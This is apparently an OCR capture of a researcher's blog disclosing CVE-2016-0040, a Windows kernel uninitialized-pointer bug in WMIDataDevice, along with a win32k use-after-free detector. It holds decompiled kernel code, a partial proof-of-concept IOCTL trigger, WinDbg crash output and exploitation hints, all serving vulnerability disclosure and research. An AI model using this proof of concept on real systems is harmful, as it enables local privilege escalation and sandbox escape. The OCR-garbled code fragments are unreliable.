Skip to content

CVE-2016-0040 Story of uninitialized pointer


CVE-2016-0040 Credit to Me aka Meysam Firozi @R00tkitSMM

some month ago i found some vulnerabilities in windows kernel mostly Local privilege escalation

Microsoft patched on of the reported vulnerabilities in MS16-014

vulnerability type is uninitialized pointer dereference

vulnerability can be triggered even by process with “low integrity level” ,it’s means successfully exploiting of this vulnerability can lead to bypass sandbox( for example IE sandbox) or generic local privilege escalation for any process.

bug description:

for handling some WMI functions Windows NT Create named Device “WMIDataDevice” ,this device isaccessible from user mode with any permission(you can check it with WinObj).
WMIDataDevice handle some IOCTLs, WmipReceiveNotifications function was responsible for IOCTL_WMI_ENUMERATE_GUIDS IOCTL.
based on first DWORD of Irp->AssociatedIrp.SystemBuffer WmipReceiveNotifications function decide to use Stack orkernel pool as buffer for storing data/pointer.
if first DWORD is less than or equal to 0x10 then stack selected as buffer ,

there was another important usage of mentioned DWORD , WmipReceiveNotifications use this DWORD as counter for looping and initializing Local Buffer,so its means if
we put 0 in first DWORD of Irp->AssociatedIrp.SystemBuffer from user mode so first function select stack as buffer ,and as i said this buffer initiated in loop.
in this case we passed 0 ,so function skip loop execution and stack buffer remain uninitialized.
we need bypass some other condition inside WmipReceiveNotifications to reach to vulnerability:

1) v16 come from user mode and need its value be 2

v16 = *(_DWORD *)(SystemBuffer + 4);

2) insert valid Handle for ObReferenceObjectByHandle in SystemBuffer

v39 = ObReferenceObjectByHandle(*(HANDLE *)(SystemBuffer + 16),0x43Au, 0, 1, &PIRP, 0);

finally uninitialized local variable used as target pointer and function write a DWORD from SystemBuffer + 8 to it

we can control what is written but for manipulating uninitialized stack we need a good stack spray inside kernel

we can control what is written but for manipulatinguninitialized stack we need a good stack spray inside kernel

v23 = *(_DWORD *)LocalBuffer;

*(_DWORD *)(v23 + 60) = *(_DWORD *)(SystemBuffer + 8); // write arbitrary data to uninitialized local variable or Write-what-where condition

using uninitialized local variable as pointer and write arbitrary data to where it point(for successfully exploiting this vulnerability attacker need to using stack spraying trick)
Write-what-where condition ( there was may way to exploit this condition ,zero ACL,SET token permission ,… )

bug advantages :

  • bug can be triggered in low integrity
  • don’t related to win32k.sys (ignore “Win32k system call disable policy” , for example chrome browser)
  • default OS configuration so universal sandbox bypass
     int __userpurge WmipReceiveNotifications @(int SystemBuffer @, unsigned int * OutputBufferSize, PVOID PIRP) {
         v4 = SystemBuffer;
         v5 = * OutputBufferSize;
         v6 = * (_DWORD * ) v4;
         v39 = -1073741811;
         v37 = v5;
         v36 = v6;if (v6 <= 0x10) // if first value inside buffer from user mode is less than or equal to 0x10 then use local stack so we pass 0 to force use local stack
             LocalBuffer =& v32;;
         } else {
             LocalBuffer = ExAllocatePoolWithTag(PagedPool, 8 * v6, 0x70696D57 u);
             if (!LocalBuffer)
                 return -1073741670;
         we don 't go inside this if because we use passed zero
         v42 = 0;
         v40 = 0;
         v38 = 0;
         v44 = 0;
         v41 = 0;
         if (v6)
             do {
                 v39 = ObReferenceObjectByHandle( * (HANDLE * )(v4 + 8 * v41 + 24), 4 u, WmipGuidObjectType, 1,&Object, 0);
                 if (v39<0) goto LABEL_55;
                 v8 = Object;
                 v9 = 0;
                 if (v44) {
                     while (Object != * ((PVOID * ) LocalBuffer + 2 * v9)) {.......
         } // because v42 and v45 is set to 0 we also bypass this two ifif ( v42 == 1 ) { ... ... ... }
    if ( v45 | BYTE3(PIRP) ) { v13 = v37; if ( v11 &v37 )
      * (_DWORD * )(v4 + 48) = v11; * (_DWORD * ) v4 = 56; * (_DWORD * )(v4 + 44) = 32; * OutputBufferSize = 56;
     //v16 come from user mode so we can set it's value 2 then lead code to here
     if (v16 != 2)
             * OutputBufferSize = 0;
         goto LABEL_55;
     v39 = ObReferenceObjectByHandle( * (HANDLE * )(v4 + 16), 0x43A u, 0, 1,&PIRP, 0);
     if (v39 >= 0)
         v39 = ObOpenObjectByPointerWithTag((ULONG_PTR) PIRP, 512, 0, 0x1FFFFF, 0, 0, 1953261124, (int)&v35);
         if (v39>= 0)
             v23 = * (_DWORD * ) LocalBuffer; * (_DWORD * )(v23 + 60) = * (_DWORD * )(v4 + 8); // write arbitrary data from uninitialized local variable

    bug is here we forced using uninitialized local variable as pointer
    with good stack spraying we can write arbitrary data inside arbitrary address

                              mov ecx, [esi + 8]
             .text: 0041E D59 mov eax, [ebp + LocalBuffer]
             .text: 0041E D5C mov eax, [eax]
             .text: 0041E D5E mov[eax + 3 Ch], ecx // ecx is 0x41414141 and eax get from stack ;

    POC :

    typedef union {
        HANDLE Handle;
        ULONG64Handle64;
        ULONG32 Handle32;
    HANDLE3264, * PHANDLE3264;
    typedef struct {
        // List of guid notification handles
        ULONG HandleCount;
        ULONG Action;
        HANDLE /* PUSER_THREAD_START_ROUTINE */ UserModeCallback;
        HANDLE3264 UserModeProcess;
        HANDLE3264 Handles[20];
    define RECEIVE_ACTION_CREATE_THREAD 2 // Mark guid objects as requiring
    typedef struct {
        IN VOID * ObjectAttributes;
        IN ACCESS_MASK DesiredAccess;
        OUT HANDLE3264 Handle;
    void main() {
        DWORD dwBytesReturned;
        HANDLE threadhandle;
        CHAR OutPut[1000];
        memset( & amp; buffer, '\x41', sizeof(buffer)); // set ecx to 0x41414141
        buffer.HandleCount = 0;
        buffer.Action = RECEIVE_ACTION_CREATE_THREAD;
        buffer.UserModeProcess.Handle = GetCurrentProcess();
        // using NtMapUserPhysicalPages for spraying stack cant help us
        if (hDriver != INVALID_HANDLE_VALUE) {while (TRUE) {
                if (!DeviceIoControl(hDriver, IOCTL_WMI_RECEIVE_NOTIFICATIONS, & amp; buffer, sizeof(buffer), & amp; OutPut, sizeof(OutPut), & amp; dwBytesReturned, NULL)) {

    windbg output:

    !analyze -v
    Connected to Windows 7 7600 x86 compatible target at (Sat Oct 24 18:24:12.679 2015 (UTC + 3:30)), ptr64 FALSE
    Loading Kernel Symbols
    Loading User Symbols
    Loading unloaded module list
    * *
    * Bugcheck Analysis *
    * *
    Unknown bugcheck code (0)
    Unknown bugcheck description
    Arg1: 00000000
    Arg2: 00000000
    Arg3: 00000000
    Arg4: 00000000
    Debugging Details:
    PROCESS_NAME: TestForBug.exe
    8162ee36 89483c mov dword ptr [eax+3Ch],ecxEXCEPTION_RECORD: ffffffff -- (.exr 0xffffffffffffffff)
    ExceptionAddress: 8162ee36 (nt!WmipReceiveNotifications+0x00000315)
    ExceptionCode: c0000005 (Access violation)
    ExceptionFlags: 00000000
    NumberParameters: 2
    Parameter[0]: 00000001
    Parameter[1]: 0000003c
    Attempt to write to address 0000003c
    ERROR_CODE: (NTSTATUS) 0xc0000005 - The instruction at 0x%08lx referenced memory at 0x%08lx. The memory could not be %s.
    EXCEPTION_CODE: (NTSTATUS) 0xc0000005 - The instruction at 0x%08lx referenced memory at 0x%08lx. The memory could not be %s.
    WRITE_ADDRESS: 0000003c
    8162ee36 89483c mov dword ptr [eax+3Ch],ecx // ecx is 0x41414141 , eax is from stack
    LAST_CONTROL_TRANSFER: from 81829152 to 8162ee36
    a8c0bb40 81829152 a8c0bb60 84b53760 8419d470 nt!WmipReceiveNotifications+0x315
    a8c0bbfc 8164f779 839cce40 83efadb8 83efadb8 nt!WmipIoControl+0x413
    a8c0bc14 8185283e 8419d470 83efadb8 83efafd8 nt!IofCallDriver+0x63
    a8c0bc34 8186f6ea 839cce40 8419d470 00000000 nt!IopSynchronousServiceTail+0x1f8
    a8c0bcd0 81871ec6 839cce40 83efadb8 00000000 nt!IopXxxControlFile+0x6aa
    a8c0bd04 81656746 0000001c 00000000 00000000 nt!NtDeviceIoControlFile+0x2a
    a8c0bd04 773964f4 0000001c 00000000 00000000 nt!KiSystemServicePostCall
    00386fb8 77394cac 756aa08f 0000001c00000000 ntdll!KiFastSystemCallRet
    00386fbc 756aa08f 0000001c 00000000 00000000 ntdll!NtDeviceIoControlFile+0xc
    0038701c 75faec25 0000001c 00228144 00387078 KERNELBASE!DeviceIoControl+0xf6
    00387048 00191098 0000001c 00228144 00387078 kernel32!DeviceIoControlImplementation+0x80
    0039f7d8 00191228 00000001 00661318 006618a8 TestForBug!main+0x98
    0039f81c 75fb1174 7ffd4000 0039f868 773ab3f5 TestForBug!__tmainCRTStartup+0x122
    0039f828 773ab3f5 7ffd4000 777c1ab9 00000000 kernel32!BaseThreadInitThunk+0xe
    0039f868 773ab3c8 00191349 7ffd4000 00000000 ntdll!__RtlUserThreadStart+0x70
    0039f880 00000000 00191349 7ffd4000 00000000 ntdll!_RtlUserThreadStart+0x1b
    SYMBOL_NAME: nt!WmipReceiveNotifications+315
    FOLLOWUP_NAME: MachineOwner
    IMAGE_NAME: ntkrpamp.exe
    FAILURE_BUCKET_ID: ACCESS_VIOLATION_nt!WmipReceiveNotifications+315
    BUCKET_ID: ACCESS_VIOLATION_nt!WmipReceiveNotifications+315
    Followup: MachineOwnerbecause stack address was too deep it’s hard to modify its content with spraying so Stack spraying was a good challenge for readers

    for more Exploit and POC visit my Github

Win32k.sys Fuzzer


there are a number of vulnerability classes which don’t explicitly manifest themselves in the kernel and one of them is UAF in win32k.sys, Win32k.sys for Windows is like Java for internet.
i try to implement “Use After Free” detector/fuzzer for win32k.sys

this project have two part:• UAF detector in Win32k
  • Win32k.sys fuzzer

    So i just publish First part

    in this days 0 day in kernel is more valuable than before because of limitation forced by sandboxes , every RCE Exploit need second phrase to bypass this Limitation to gain full system access.

    many published local privilege escalation vulnerabilities is based on Bug in Win32k and how it handle/use Objects , in most vulnerabilities win32k use freed memory that lead to use after free vulnerabilities.

    Win32 object allocation : based on Object type win32with help of HMAllocObject function use heap or Pool for Allocating memory for object

    int __stdcall HMAllocObject(int a1, PVOID Object, char a3, ULONG Size)
      if ( v5 & 0x10 && Object )
        v7 = DesktopAlloc((int)Object, Size, ((unsigned __int8)a3 << 16) | 5);
        if ( !v7 )
          return 0;
        LockObjectAssignment(v7 + 12, Object);
        *(_DWORD *)(v7 + 16) =v7;
        if ( v5 & 0x40 )v8 = SharedAlloc(Size);
          v9 = !Object && v5 & 0x20;
          if ( !(v5 & 8) || v9 )
            v8 = Win32AllocPoolWithTagZInit(Size, dword_BF9F191C[v4]);v8 = Win32AllocPoolWithQuotaTagZInit(Size, dword_BF9F191C[v4]);
        v7 = v8;
  • DesktopAlloc ( Heap )
  • SharedAlloc ( Heap)
  • Win32AllocPoolWithQuotaTagZInit, Win32AllocPoolWithTagZInit (Pool )

    for example Menu object use DesktopAlloc and Accelerator use Pool.

    for objects that use Heap memory ,when object life end, OS call RtlFreeHeap to free used memory,after RtlFreeHeap return freed memory still have old/valid contents, so if other part of win32k.sys use freed memory nothing will happen because it use memory with old contents ( no BSOD ) and we will miss Bug. until now researchers just find this kind of bugs with reverse engineering . they must allocate object in same size to produce crash. and how know when OS will use freed memory ?

    in user mode code we can use gflags to enable page Heap

    gflags.exe /i iexplore.exe +hpa +ust to to enable the page Heap (HPA)

    we also can enable page Heap system wide bug this dont effect Heap implementation in kernel thre was also “special pool” that can be enable with verifier but it dont help us for Heap based objects/memory.

    so my idea is patching RtlFreeHeap and fill freed memory with invalid content like 0c0c0c0c . for finding Heap chunk size i used unexported function RtlSizeHeap(thanks @ponez for finding this function)

    __declspec(naked) my_function_detour_RtlFreeHeap()
        //PVOIDfunc=RtlSizeHeap;;
            // exec missing instructions
            mov     edi,edi
            push    ebp
            mov     ebp,esp
            push    ebx
